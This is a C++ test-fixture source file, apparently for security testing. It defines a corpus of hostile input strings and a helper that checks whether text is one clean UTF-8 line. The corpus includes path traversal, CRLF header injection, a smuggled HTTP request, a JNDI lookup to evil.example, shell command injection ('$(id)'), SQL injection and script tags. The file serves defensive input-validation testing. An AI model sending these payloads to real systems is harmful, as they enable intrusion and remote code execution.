#include "evil.hpp"

#include "json/text.hpp"

#include <algorithm>

namespace security {

namespace {

using namespace std::string_literals;

std::vector<std::string> make()
{
    std::vector<std::string> all = {
        ""s,
        "."s,
        ".."s,
        "..."s,
        "../../v1/users"s,
        "..\\..\\users"s,
        "..;/users"s,
        "%2e"s,
        "%2e%2e"s,
        "%2E%2e%2F"s,
        "%252e%252e"s,
        "a/../b"s,
        "/"s,
        "//"s,
        "//evil.example"s,
        "https://evil.example/"s,
        "\\\\evil.example"s,
        "@evil.example"s,
        "user:pass@evil.example:443"s,
        "a?b=c"s,
        "a&b=c"s,
        "a#b"s,
        "a;b=c"s,
        "a=b,c"s,
        ":"s,
        "%"s,
        "%0"s,
        "%zz"s,
        "%00"s,
        "%0d%0aX-Evil: 1"s,
        "%u000a"s,
        "\r"s,
        "\n"s,
        "\r\n"s,
        "a\r\nX-Evil: 1"s,
        "a\nX-Evil: 1"s,
        "a\rX-Evil: 1"s,
        "a\r\n\r\nGET /evil HTTP/1.1\r\nHost: evil.example\r\n\r\n"s,
        "a HTTP/1.1\r\nHost: evil.example"s,
        "a HTTP/1.0"s,
        " a"s,
        "a "s,
        "\ta"s,
        "a\tb"s,
        "\0"s,
        "a\0b"s,
        "\x1b[2Ja"s,
        "\x7f"s,
        "\x80"s,
        "\xff\xfe"s,
        "\xc0\xae\xc0\xae\xc0\xaf"s, // "../" in a form longer than UTF-8 allows
        "\xe0\x80\xaf"s,
        "\xed\xa0\x80"s,                         // half of a surrogate pair
        "\xf4\x90\x80\x80"s,                     // above U+10FFFF
        "\xc4\x8a\xc4\x8d"s,                     // U+010A U+010D: LF and CR once cut to a byte
        "\xe5\x98\x8a\xe5\x98\x8d"s,             // U+560A U+560D: the same
        "\xe2\x80\xa4\xe2\x80\xa4/"s,            // one dot leaders
        "\xef\xbc\x8e\xef\xbc\x8e\xef\xbc\x8f"s, // full width ../
        "\xe2\x88\x95\xe2\x81\x84"s,             // division and fraction slash
        "a\xe2\x80\xae"
        "b"s,                                // right to left from here
        "\xe2\x80\xa8\xe2\x80\xa9\xc2\x85"s, // line ends outside ASCII
        "\xef\xbb\xbf"
        "a"s,
        "\"; name=\"evil"s,
        "a\\"s,
        "\\\""s,
        "a\"\r\n\r\nevil\r\n--"s,
        "--\r\n--"s,
        "{\"a\":1}"s,
        "\",\"evil\":true,\"x\":\""s,
        "${jndi:ldap://evil.example/a}"s,
        "$(id)`id`"s,
        "' OR 1=1 --"s,
        "<script>"s,
        std::string(20'000, 'a'),
        std::string(300, '/'),
    };
    for (int byte = 0; byte != 256; ++byte)
        all.push_back("a" + std::string(1, static_cast<char>(byte)) + "z");
    return all;
}

} // namespace

const std::vector<std::string>& evil_texts()
{
    static const auto all = make();
    return all;
}

bool is_one_clean_line(const std::string& text)
{
    return usher::detail::is_utf8(text) && std::all_of(text.begin(), text.end(), [](char c) {
               return static_cast<unsigned char>(c) >= 0x20 && c != 0x7f;
           });
}

} // namespace security
